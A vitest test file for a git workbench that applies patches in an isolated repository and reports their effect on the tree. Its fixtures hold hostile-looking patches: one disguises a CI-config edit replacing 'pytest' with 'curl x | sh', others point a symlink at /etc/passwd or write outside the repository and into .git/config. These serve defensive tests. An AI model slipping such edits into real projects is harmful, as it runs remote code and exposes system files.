import { readdir, rm, stat } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { Workbench, commitMessage, resolveUserRepo } from '../../../src/git/index.js';
import { treeChanges } from '../../../src/git/tree-changes.js';
import { createFixtureRepo, type FixtureRepo } from '../../helpers/fixture-repo.js';

const identity = { name: 'hammer-box', email: 'hammer-box@localhost' };
const cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const c of cleanups.splice(0)) await c();
});

async function setup(files: Parameters<typeof createFixtureRepo>[0]): Promise<{ repo: FixtureRepo; wb: Workbench }> {
  const repo = await createFixtureRepo(files);
  cleanups.push(() => repo.cleanup());
  const user = await resolveUserRepo(repo.path, 'main');
  const wb = await Workbench.create(user, user.baseCommit, { identity });
  cleanups.push(() => wb.dispose());
  return { repo, wb };
}

const editA = `diff --git a/a.txt b/a.txt
--- a/a.txt
+++ b/a.txt
@@ -1,2 +1,2 @@
 one
-two
+TWO
`;

describe('Workbench', () => {
  it('applies a patch as a commit on the base with the fixed author and message', async () => {
    const { repo, wb } = await setup({ files: { 'a.txt': 'one\ntwo\n', 'b.txt': 'b\n' } });
    const base = wb.head();
    const result = await wb.applyPatch(editA, {
      iteration: 1,
      summary: 'capitalise two',
      date: new Date(1_800_000_000_000),
    });
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(wb.head()).toBe(result.commit);
    expect(wb.tree()).toBe(result.tree);
    const raw = (await wb.git(['cat-file', 'commit', result.commit])).stdout.toString();
    expect(raw).toContain(`parent ${base}`);
    expect(raw).toContain('author hammer-box <hammer-box@localhost> 1800000000 +0000');
    expect(raw).toContain('committer hammer-box <hammer-box@localhost> 1800000000 +0000');
    expect(raw.endsWith('\n\ncapitalise two\n\nHammer-Box-Iteration: 1\n')).toBe(true);
    expect((await wb.git(['cat-file', 'blob', `${result.commit}:a.txt`])).stdout.toString()).toBe('one\nTWO\n');
    // the user's repository did not gain the new objects: they live in the workbench only
    const missing = await repo.git(['cat-file', '-e', result.commit]).then(
      () => false,
      () => true,
    );
    expect(missing).toBe(true);
  });

  it("gives the files a patch would leave without committing it, and git's message when it refuses", async () => {
    const { wb } = await setup({ files: { 'a.txt': 'one\ntwo\n' } });
    const head = wb.head();
    const tree = wb.tree();
    const r = await wb.filesAfter(editA, ['a.txt'], { maxBytesPerFile: 100 });
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.read.files[0]?.content).toBe('one\nTWO\n');
    expect([wb.head(), wb.tree()]).toEqual([head, tree]);
    const refused = await wb.filesAfter(editA.replace(' one', ' uno'), ['a.txt'], { maxBytesPerFile: 100 });
    expect(refused).toMatchObject({ ok: false, message: expect.stringMatching(/patch does not apply/) });
    await expect(wb.filesAfter(editA, ['a.txt'], { maxBytesPerFile: 100, flags: ['--reject'] })).rejects.toMatchObject({
      code: 'INTERNAL',
    });
  });

  it('says what a patch does to the tree, whatever its headers name; applyPatch then commits that tree', async () => {
    const { wb } = await setup({
      files: { '.gitlab-ci.yml': 'test:\n  script: pytest\n', link: { symlink: 'a.txt' }, 'a.txt': 'a\n' },
    });
    const head = wb.head();
    // git writes a `+++` name that extends its `---` name to the `---` path
    const disguised =
      '--- a/.gitlab-ci.yml\n+++ b/.gitlab-ci.yml.txt\n@@ -2 +2 @@\n-  script: pytest\n+  script: curl x | sh\n';
    const effect = await wb.effectOf(disguised);
    expect(effect.ok).toBe(true);
    if (!effect.ok) return;
    expect(effect.changes).toEqual([
      {
        path: '.gitlab-ci.yml',
        before: { mode: '100644', oid: expect.stringMatching(/^[0-9a-f]{40}$/) },
        after: { mode: '100644', oid: expect.stringMatching(/^[0-9a-f]{40}$/) },
      },
    ]);
    expect(wb.head()).toBe(head);
    // a content diff on a committed symlink, without any mode line, retargets it
    const retarget =
      '--- a/link\n+++ b/link\n@@ -1 +1 @@\n-a.txt\n\\ No newline at end of file\n+/etc/passwd\n\\ No newline at end of file\n';
    const linked = await wb.effectOf(retarget);
    expect(linked.ok && linked.changes.map((c) => [c.path, c.before?.mode, c.after?.mode])).toEqual([
      ['link', '120000', '120000'],
    ]);
    const applied = await wb.applyPatch(disguised, { iteration: 1, summary: 's' });
    expect(applied.ok).toBe(true);
    if (!applied.ok) return;
    expect(await treeChanges(head, applied.tree, wb.gitOptions())).toEqual(effect.changes);
    expect(await wb.effectOf(editA.replace('a.txt', 'nope.txt'))).toMatchObject({ ok: false });
  });

  it("reads a patch's effect from the indexes as diff-tree of the written trees says it, in the same order", async () => {
    const files = {
      'a.txt': 'one\ntwo\n',
      'b.txt': 'bee\n',
      'a-b/x.txt': 'x\n',
      'a/c.txt': 'c\n',
      'run.sh': '#!/bin/sh\n',
      link: { symlink: 'a.txt' },
    };
    const patch = [
      editA,
      'diff --git a/b.txt b/b.txt\ndeleted file mode 100644\n--- a/b.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bee\n',
      'diff --git a/a/new.py b/a/new.py\nnew file mode 100755\n--- /dev/null\n+++ b/a/new.py\n@@ -0,0 +1 @@\n+x = 1\n',
      'diff --git a/a-b/x.txt b/a-b/x.txt\n--- a/a-b/x.txt\n+++ b/a-b/x.txt\n@@ -1 +1 @@\n-x\n+y\n',
      'diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n',
      'diff --git a/to b/to\nnew file mode 120000\n--- /dev/null\n+++ b/to\n@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n',
      '--- a/link\n+++ b/link\n@@ -1 +1 @@\n-a.txt\n\\ No newline at end of file\n+b.txt\n\\ No newline at end of file\n',
    ].join('');
    const fromIndex = (await setup({ files })).wb;
    const fromTrees = (await setup({ files })).wb;
    // index version 4 is one the workbench does not read: git writes the tree and diff-tree compares
    await fromTrees.git(['config', 'index.version', '4']);
    const a = await fromIndex.effectOf(patch);
    const b = await fromTrees.effectOf(patch);
    expect(a.ok && b.ok).toBe(true);
    if (!a.ok || !b.ok) return;
    expect(a.changes).toEqual(b.changes);
    expect(a.changes.map((c) => [c.path, c.before?.mode ?? null, c.after?.mode ?? null])).toEqual([
      ['a-b/x.txt', '100644', '100644'],
      ['a.txt', '100644', '100644'],
      ['a/new.py', null, '100755'],
      ['b.txt', '100644', null],
      ['link', '120000', '120000'],
      ['run.sh', '100644', '100755'],
      ['to', null, '120000'],
    ]);
    // the next patch, on the tree the first one made, is read from the index that tree was written from
    const applied = await fromIndex.applyPatch(patch, { iteration: 1, summary: 's' });
    expect(applied.ok).toBe(true);
    const next = await fromIndex.effectOf(
      'diff --git a/a/new.py b/a/new.py\n--- a/a/new.py\n+++ b/a/new.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n',
    );
    expect(next.ok && next.changes.map((c) => c.path)).toEqual(['a/new.py']);
    expect(await fromIndex.effectOf(editA)).toMatchObject({ ok: false });
  });

  it('checks a patch through a written tree when git keeps an index version it does not read (4); applyPatch reuses it', async () => {
    const plain = await setup({ files: { 'a.txt': 'one\ntwo\n' } });
    const date = new Date(1_800_000_000_000);
    const direct = await plain.wb.applyPatch(editA, { iteration: 1, summary: 's', date });
    const { wb } = await setup({ files: { 'a.txt': 'one\ntwo\n' } });
    await wb.git(['config', 'index.version', '4']);
    const checked = await wb.filesAfter(editA, ['a.txt'], { maxBytesPerFile: 100 });
    expect(checked).toMatchObject({ ok: true, read: { files: [{ path: 'a.txt', content: 'one\nTWO\n' }] } });
    expect(await wb.applyPatch(editA, { iteration: 1, summary: 's', date })).toEqual(direct);
    // the head moved: the same patch is checked afresh on the new tree (and refused there), also
    // under other flags
    expect(await wb.applyPatch(editA, { iteration: 2, summary: 's', date })).toMatchObject({ ok: false });
    expect(await wb.filesAfter(editA, ['a.txt'], { maxBytesPerFile: 100, flags: ['--recount'] })).toMatchObject({
      ok: false,
    });
  });

  it('reads the files a patch leaves from its scratch index; applyPatch then commits what it would without it', async () => {
    const files = { 'a.txt': 'one\ntwo\n', 'b.txt': 'bee\n', link: { symlink: 'a.txt' } };
    const plain = await setup({ files });
    const date = new Date(1_800_000_000_000);
    const addNew =
      'diff --git a/dir/new.txt b/dir/new.txt\nnew file mode 100755\n--- /dev/null\n+++ b/dir/new.txt\n@@ -0,0 +1 @@\n+new\n';
    const removeB =
      'diff --git a/b.txt b/b.txt\ndeleted file mode 100644\n--- a/b.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bee\n';
    const patch = `${editA}${addNew}${removeB}`;
    const direct = await plain.wb.applyPatch(patch, { iteration: 1, summary: 's', date });
    const { wb } = await setup({ files });
    const head = wb.head();
    const after = await wb.filesAfter(patch, ['a.txt', 'dir/new.txt', 'b.txt', 'link', 'nope.txt'], {
      maxBytesPerFile: 100,
    });
    expect(after.ok).toBe(true);
    if (!after.ok) return;
    expect(after.read.files.map((f) => [f.path, f.content])).toEqual([
      ['a.txt', 'one\nTWO\n'],
      ['dir/new.txt', 'new\n'],
    ]);
    expect(after.read.skipped).toEqual(
      expect.arrayContaining([
        { path: 'b.txt', reason: 'missing' },
        { path: 'link', reason: 'symlink' },
        { path: 'nope.txt', reason: 'missing' },
      ]),
    );
    expect(wb.head()).toBe(head);
    // the kept index gives applyPatch the same commit as a workbench that never checked it
    expect(await wb.applyPatch(patch, { iteration: 1, summary: 's', date })).toEqual(direct);
    // refused: git's message; another patch after a check is applied afresh
    expect(await wb.filesAfter(editA, ['a.txt'], { maxBytesPerFile: 100 })).toMatchObject({
      ok: false,
      message: expect.stringMatching(/patch does not apply/),
    });
    const other = await setup({ files });
    await other.wb.filesAfter(editA, ['a.txt'], { maxBytesPerFile: 100 });
    const applied = await other.wb.applyPatch(addNew, { iteration: 1, summary: 's', date });
    expect(
      applied.ok && (await other.wb.readFiles(applied.commit, ['a.txt'], { maxBytesPerFile: 100 })).files[0]?.content,
    ).toBe('one\ntwo\n');
  });

  it("applies with the apply ladder's flags (--recount, --ignore-whitespace) and refuses any other flag", async () => {
    const { wb } = await setup({ files: { 'a.txt': 'one\ntwo\n' } });
    const miscounted = editA.replace('@@ -1,2 +1,2 @@', '@@ -1,7 +1,7 @@');
    expect(await wb.applyPatch(miscounted, { iteration: 1, summary: 'x' })).toMatchObject({ ok: false });
    const drifted = editA.replace(' one\n', ' one  \n').replace('-two\n', '-two \n');
    expect(await wb.applyPatch(drifted, { iteration: 1, summary: 'x' })).toMatchObject({ ok: false });
    const recounted = await wb.applyPatch(miscounted, { iteration: 1, summary: 'x', flags: ['--recount'] });
    expect(recounted.ok).toBe(true);
    if (!recounted.ok) return;
    expect((await wb.git(['cat-file', 'blob', `${recounted.commit}:a.txt`])).stdout.toString()).toBe('one\nTWO\n');
    for (const flag of ['--reject', '--unsafe-paths', '--directory=x', '-p0', '--include=*']) {
      await expect(wb.applyPatch(editA, { iteration: 2, summary: 'x', flags: [flag] })).rejects.toMatchObject({
        code: 'INTERNAL',
      });
    }
    expect(wb.head()).toBe(recounted.commit);
  });

  it('rebuilds the very same commit from the same patch and date (what resume relies on)', async () => {
    const { repo, wb } = await setup({ files: { 'a.txt': 'one\ntwo\n' } });
    const user = await resolveUserRepo(repo.path, 'main');
    const again = await Workbench.create(user, user.baseCommit, { identity });
    cleanups.push(() => again.dispose());
    const date = new Date('2026-11-22T14:07:09.250Z');
    const first = await wb.applyPatch(editA, { iteration: 1, summary: 'x', date });
    const second = await again.applyPatch(editA, { iteration: 1, summary: 'x', date });
    expect(first.ok && second.ok).toBe(true);
    if (first.ok && second.ok) expect(second.commit).toBe(first.commit);
  });

  it('builds each tree on the head it is given: after a reset the next patch goes on the earlier commit', async () => {
    const { wb } = await setup({ files: { 'a.txt': 'one\ntwo\n' } });
    const base = { commit: wb.head(), tree: wb.tree() };
    const addNew =
      'diff --git a/new.txt b/new.txt\nnew file mode 100644\n--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+new\n';
    const first = await wb.applyPatch(editA, { iteration: 1, summary: 'one' });
    expect(first.ok).toBe(true);
    // on the new head: the patch goes on top of the first change
    const stacked = await wb.filesAfter(addNew, ['a.txt', 'new.txt'], { maxBytesPerFile: 100 });
    wb.resetHead(base.commit, base.tree);
    // on the base again: only the new file, a.txt as it was
    const alone = await wb.applyPatch(addNew, { iteration: 1, summary: 'again' });
    expect(stacked.ok && alone.ok).toBe(true);
    if (!stacked.ok || !alone.ok) return;
    expect(stacked.read.files.map((f) => [f.path, f.content])).toEqual([
      ['a.txt', 'one\nTWO\n'],
      ['new.txt', 'new\n'],
    ]);
    const show = async (tree: string, path: string) =>
      (await wb.git(['cat-file', 'blob', `${tree}:${path}`])).stdout.toString();
    expect(await show(alone.tree, 'a.txt')).toBe('one\ntwo\n');
    expect(await show(alone.tree, 'new.txt')).toBe('new\n');
  });

  it('stacks commits, one per patch', async () => {
    const { wb } = await setup({ files: { 'a.txt': 'one\ntwo\n' } });
    const first = await wb.applyPatch(editA, { iteration: 1, summary: 'one' });
    const second = await wb.applyPatch(
      'diff --git a/new.txt b/new.txt\nnew file mode 100644\n--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+new\n',
      {
        iteration: 2,
        summary: 'two',
      },
    );
    expect(first.ok && second.ok).toBe(true);
    if (!first.ok || !second.ok) return;
    expect((await wb.git(['rev-parse', `${second.commit}^`])).stdout.toString().trim()).toBe(first.commit);
    const diff = await wb.diff(wb.baseCommit, wb.head());
    expect(diff).toContain('+TWO');
    expect(diff).toContain('+++ b/new.txt');
    // the same two commits are diffed once: the loop makes a prompt's diff ahead, the prompt reuses it
    const again = wb.diff(wb.baseCommit, wb.head());
    expect(again).toBe(wb.diff(wb.baseCommit, wb.head()));
    expect(await again).toBe(diff);
    expect(await wb.diff(wb.baseCommit, first.commit)).not.toContain('new.txt');
  });

  it("returns git's message for a patch that does not apply, and keeps the head", async () => {
    const { wb } = await setup({ files: { 'a.txt': 'one\nthree\n' } });
    const head = wb.head();
    const result = await wb.applyPatch(editA, { iteration: 1, summary: 'x' });
    expect(result).toEqual({
      ok: false,
      message: expect.stringMatching(/patch failed: a\.txt:1|patch does not apply/),
    });
    expect(wb.head()).toBe(head);
  });

  it('refuses paths outside the repository and patches that change nothing', async () => {
    const { wb } = await setup({ files: { 'a.txt': 'one\ntwo\n' } });
    const outside = await wb.applyPatch('--- a/../x.txt\n+++ b/../x.txt\n@@ -0,0 +1 @@\n+x\n', {
      iteration: 1,
      summary: 'x',
    });
    expect(outside.ok).toBe(false);
    const gitDir = await wb.applyPatch(
      'diff --git a/.git/config b/.git/config\nnew file mode 100644\n--- /dev/null\n+++ b/.git/config\n@@ -0,0 +1 @@\n+x\n',
      { iteration: 1, summary: 'x' },
    );
    expect(gitDir.ok).toBe(false);
    const modeOnly = await wb.applyPatch('diff --git a/a.txt b/a.txt\nold mode 100644\nnew mode 100644\n', {
      iteration: 1,
      summary: 'x',
    });
    expect(modeOnly.ok).toBe(false);
  });

  it('lists the tree with kinds and modes, capped at maxEntries', async () => {
    const { repo, wb } = await setup({
      files: {
        'a.txt': 'a\n',
        'bin/run.sh': { content: '#!/bin/sh\n', executable: true },
        link: { symlink: '/etc/passwd' },
      },
    });
    const sub = await createFixtureRepo({ files: { 'x.txt': 'x\n' } });
    cleanups.push(() => sub.cleanup());
    await repo.git(['update-index', '--add', '--cacheinfo', `160000,${await sub.head()},vendor/sub`]);
    await repo.git(['commit', '--quiet', '-m', 'submodule']);
    const wb2 = await Workbench.create(await resolveUserRepo(repo.path, 'main'), await repo.head(), { identity });
    cleanups.push(() => wb2.dispose());
    const { entries, truncated } = await wb2.listTree(wb2.head());
    expect(truncated).toBe(false);
    expect(entries.map((e) => [e.path, e.mode, e.kind])).toEqual([
      ['a.txt', '100644', 'file'],
      ['bin/run.sh', '100755', 'executable'],
      ['link', '120000', 'symlink'],
      ['vendor/sub', '160000', 'submodule'],
    ]);
    expect(entries[0]?.size).toBe(2);
    const capped = await wb.listTree(wb.head(), { maxEntries: 2 });
    expect(capped.entries).toHaveLength(2);
    expect(capped.truncated).toBe(true);
  });

  it('serves a lower cap from a listing made with a higher one, and lists again for a higher cap', async () => {
    const { wb } = await setup({ files: { 'a.txt': 'a\n', 'b.txt': 'b\n', 'c.txt': 'c\n', 'd.txt': 'd\n' } });
    const three = await wb.listTree(wb.head(), { maxEntries: 3 });
    expect(three.entries.map((e) => e.path)).toEqual(['a.txt', 'b.txt', 'c.txt']);
    expect(three.truncated).toBe(true);
    // from the listing of three: the same entry objects, cut
    const two = await wb.listTree(wb.head(), { maxEntries: 2 });
    expect(two.entries).toEqual(three.entries.slice(0, 2));
    expect(two.entries[0]).toBe(three.entries[0]);
    expect(two.truncated).toBe(true);
    // a higher cap than any listing made: listed again, complete
    const all = await wb.listTree(wb.head());
    expect(all.entries.map((e) => e.path)).toEqual(['a.txt', 'b.txt', 'c.txt', 'd.txt']);
    expect(all.truncated).toBe(false);
    const four = await wb.listTree(wb.head(), { maxEntries: 4 });
    expect(four.entries[0]).toBe(all.entries[0]);
    expect(four.truncated).toBe(false);
  });

  it('keeps the last few listings only: one of an early head is made again', async () => {
    const { wb } = await setup({ files: { 'a.txt': 'one\ntwo\n' } });
    const base = wb.head();
    const first = await wb.listTree(base);
    expect(await wb.listTree(base)).toBe(first);
    for (let i = 1; i <= 6; i++) {
      const add = `diff --git a/f${i}.txt b/f${i}.txt\nnew file mode 100644\n--- /dev/null\n+++ b/f${i}.txt\n@@ -0,0 +1 @@\n+${i}\n`;
      const r = await wb.applyPatch(add, { iteration: i, summary: 's' });
      expect(r.ok).toBe(true);
      await wb.listTree(wb.head());
    }
    const again = await wb.listTree(base);
    expect(again).not.toBe(first);
    expect(again).toEqual(first);
  });

  it('reads regular files only: symlinks, submodules, binaries and missing paths are skipped', async () => {
    const { repo } = await setup({
      files: {
        'a.txt': 'hello\n',
        'big.txt': 'x'.repeat(1000),
        'img.bin': Buffer.from([0x89, 0x50, 0x00, 0x01]),
        link: { symlink: 'a.txt' },
        '-dash.txt': 'dash\n',
        'dir/inner.txt': 'inner\n',
      },
    });
    const sub = await createFixtureRepo({ files: { 'x.txt': 'x\n' } });
    cleanups.push(() => sub.cleanup());
    await repo.git(['update-index', '--add', '--cacheinfo', `160000,${await sub.head()},sub`]);
    await repo.git(['commit', '--quiet', '-m', 'submodule']);
    const wb = await Workbench.create(await resolveUserRepo(repo.path, 'main'), await repo.head(), { identity });
    cleanups.push(() => wb.dispose());
    const asked = [
      'a.txt',
      'big.txt',
      'img.bin',
      'link',
      'sub',
      'nope.txt',
      '-dash.txt',
      'dir',
      'a.txt',
      '*.txt',
      '../etc/passwd',
      '.git/config',
      'dir/inner.txt',
      'dir/inner.txt/x',
      '/a.txt',
    ];
    // the same answer found three ways: the trees walked from the commit, from its tree, and the listing
    const byWalk = await wb.readFiles(wb.head(), asked, { maxBytesPerFile: 100 });
    const byTree = await wb.readFiles(wb.tree(), asked, { maxBytesPerFile: 100 });
    await wb.listTree(wb.head());
    const byListing = await wb.readFiles(wb.head(), asked, { maxBytesPerFile: 100 });
    expect(byTree).toEqual(byWalk);
    expect(byListing).toEqual(byWalk);
    expect(byWalk.files.map((f) => f.path)).toEqual(['a.txt', 'big.txt', '-dash.txt', 'dir/inner.txt']);
    expect(byWalk.skipped).toContainEqual({ path: 'dir/inner.txt/x', reason: 'missing' });
    const result = await wb.readFiles(
      wb.head(),
      [
        'a.txt',
        'big.txt',
        'img.bin',
        'link',
        'sub',
        'nope.txt',
        '-dash.txt',
        'dir',
        'a.txt',
        '*.txt',
        '../etc/passwd',
        '.git/config',
      ],
      {
        maxBytesPerFile: 100,
      },
    );
    expect(result.files).toEqual([
      { path: 'a.txt', content: 'hello\n', bytes: 6, truncated: false },
      { path: 'big.txt', content: 'x'.repeat(100), bytes: 1000, truncated: true },
      { path: '-dash.txt', content: 'dash\n', bytes: 5, truncated: false },
    ]);
    expect(result.skipped).toEqual(
      expect.arrayContaining([
        { path: 'img.bin', reason: 'binary' },
        { path: 'link', reason: 'symlink' },
        { path: 'sub', reason: 'submodule' },
        { path: 'nope.txt', reason: 'missing' },
        { path: 'dir', reason: 'missing' },
        { path: '*.txt', reason: 'missing' },
        { path: '../etc/passwd', reason: 'missing' },
        { path: '.git/config', reason: 'missing' },
      ]),
    );
    expect(result.skipped).toHaveLength(8);
  });

  it('reads files of a SHA-256 repository by walking its trees', async () => {
    const repo = await createFixtureRepo({});
    cleanups.push(() => repo.cleanup());
    await rm(`${repo.path}/.git`, { recursive: true });
    await repo.git(['init', '--quiet', '--template=', '--object-format=sha256', '--initial-branch=main']);
    await repo.write({ 'a.txt': 'one\n', 'd/e/f.txt': 'deep\n' });
    await repo.git(['add', '--all']);
    await repo.git(['commit', '--quiet', '-m', 'init']);
    const wb = await Workbench.create(await resolveUserRepo(repo.path, 'main'), await repo.head(), { identity });
    cleanups.push(() => wb.dispose());
    const got = await wb.readFiles(wb.head(), ['d/e/f.txt', 'a.txt', 'd/e'], { maxBytesPerFile: 100 });
    expect(got.files.map((f) => [f.path, f.content])).toEqual([
      ['d/e/f.txt', 'deep\n'],
      ['a.txt', 'one\n'],
    ]);
    expect(got.skipped).toEqual([{ path: 'd/e', reason: 'missing' }]);
  });

  it('lives in its own temp directory and removes it on dispose', async () => {
    const { repo, wb } = await setup({ files: { 'a.txt': 'a\n' } });
    expect(wb.dir.startsWith(repo.path)).toBe(false);
    expect((await readdir(wb.dir)).sort()).toEqual(expect.arrayContaining(['HEAD', 'objects', 'refs']));
    expect(await readdir(join(wb.dir, 'hooks')).catch(() => [])).toEqual([]);
    await wb.dispose();
    await expect(stat(wb.dir)).rejects.toThrow();
    await wb.dispose();
  });
});

describe('commitMessage', () => {
  const trailers = [['Hammer-Box-Run', '20261122T140501Z-k3b7qa']] as const;

  it('keeps the subject to one printable line of at most 72 characters, cut at a word', () => {
    expect(commitMessage({ subject: 'fix\nthe \u001b[31mparser\u001b[0m\r\n', body: '', trailers: [] })).toBe(
      'fix the [31mparser [0m\n',
    );
    expect(commitMessage({ subject: '   ', body: '', trailers: [] })).toBe('Apply a patch\n');
    const long = 'Make the date parser accept ISO week dates such as 2026-W47-3 and reject impossible ones';
    const subject = commitMessage({ subject: long, body: '', trailers: [] }).split('\n')[0]!;
    expect(subject).toBe('Make the date parser accept ISO week dates such as 2026-W47-3 and reject');
    expect(subject.length).toBeLessThanOrEqual(72);
  });

  it('wraps the body at 72 columns (lists keep their marker) and ends with the trailers', () => {
    const body =
      'total() subtracted each item instead of adding it, so every sum came out negative and the mean test failed as well.\n\n- the loop now adds each item to the running result before returning it to the caller';
    expect(commitMessage({ subject: 'Fix total()', body, trailers })).toBe(
      [
        'Fix total()',
        '',
        'total() subtracted each item instead of adding it, so every sum came out',
        'negative and the mean test failed as well.',
        '',
        '- the loop now adds each item to the running result before returning it',
        '  to the caller',
        '',
        'Hammer-Box-Run: 20261122T140501Z-k3b7qa',
        '',
      ].join('\n'),
    );
  });
});

describe('Workbench listing and diff shortcuts', () => {
  it('lists a commit once per limit and reads no git for an empty self-diff', async () => {
    const { wb } = await setup({ files: { 'a.txt': 'a\n', 'dir/b.txt': 'b\n' } });
    const first = wb.listTree(wb.head());
    expect(wb.listTree(wb.head())).toBe(first);
    expect((await first).entries.map((e) => e.path)).toEqual(['a.txt', 'dir/b.txt']);
    expect(wb.listTree(wb.head(), { maxEntries: 1 })).not.toBe(first);
    expect((await wb.listTree(wb.head(), { maxEntries: 1 })).truncated).toBe(true);
    expect(await wb.diff(wb.head(), wb.head())).toBe('');
  });
});

describe('Workbench blobs and search for the prompt context', () => {
  it('reads listed blobs by id, capped, in order, and marks binary ones', async () => {
    const { wb } = await setup({
      files: { 'a.py': 'print(1)\n', 'big.txt': 'x'.repeat(500), 'img.bin': Buffer.from([1, 0, 2]) },
    });
    const entries = (await wb.listTree(wb.head())).entries;
    const byPath = (p: string) => entries.find((e) => e.path === p)!;
    const read = await wb.readBlobs([byPath('big.txt'), byPath('a.py'), byPath('img.bin')], { maxBytesPerFile: 100 });
    expect(read).toEqual([
      {
        path: 'big.txt',
        oid: byPath('big.txt').oid,
        binary: false,
        content: 'x'.repeat(100),
        bytes: 500,
        truncated: true,
      },
      { path: 'a.py', oid: byPath('a.py').oid, binary: false, content: 'print(1)\n', bytes: 9, truncated: false },
      { path: 'img.bin', oid: byPath('img.bin').oid, binary: true },
    ]);
  });

  it('searches the commit for fixed strings, as words when asked, in given paths only when given', async () => {
    const { wb } = await setup({
      files: {
        'src/a.py': 'def parse_header(x):\n    return x\n',
        'tests/test_a.py': "def test_it():\n    assert parse_header('a.b') == 'a.b'\n",
        'notes.txt': 'parse_headers everywhere\n',
      },
    });
    const head = wb.head();
    expect(await wb.grep(head, ['parse_header'], { words: true, maxHits: 10 })).toEqual([
      { path: 'src/a.py', line: 1, text: 'def parse_header(x):' },
      { path: 'tests/test_a.py', line: 2, text: "    assert parse_header('a.b') == 'a.b'" },
    ]);
    // a fixed string, not a pattern: "a.b" never matches "axb"
    expect((await wb.grep(head, ['a.b'], { words: false, maxHits: 10 })).map((h) => h.path)).toEqual([
      'tests/test_a.py',
    ]);
    expect(
      (await wb.grep(head, ['parse_header'], { words: false, maxHits: 10, paths: ['notes.txt'] })).map((h) => h.path),
    ).toEqual(['notes.txt']);
    expect(await wb.grep(head, ['parse_header'], { words: false, maxHits: 1 })).toHaveLength(1);
    expect(await wb.grep(head, ['nowhere to be found'], { words: false, maxHits: 10 })).toEqual([]);
    expect(await wb.grep(head, ['x'], { words: false, maxHits: 10, paths: [] })).toEqual([]);
  });

  it('bounds a search: a long matching line is cut, too much output or a spent deadline stops it', async () => {
    const long = `${'a'.repeat(4 * 1024 * 1024)} needle ${'b'.repeat(1024)}\n`;
    const { wb } = await setup({ files: { 'big.txt': long, 'small.txt': 'one needle\n' } });
    const head = wb.head();
    const hits = await wb.grep(head, ['needle'], { words: false, maxHits: 10 });
    expect(hits.map((h) => [h.path, h.line, h.text.length])).toEqual([
      ['big.txt', 1, 400],
      ['small.txt', 1, 10],
    ]);
    // git's output past maxBytes is not read: the long line ends the search, the hits before it stand
    expect(await wb.grep(head, ['needle'], { words: false, maxHits: 10, maxBytes: 1024 * 1024 })).toEqual([]);
    expect(await wb.grep(head, ['needle'], { words: false, maxHits: 10, timeoutMs: 0 })).toEqual([]);
  });
});
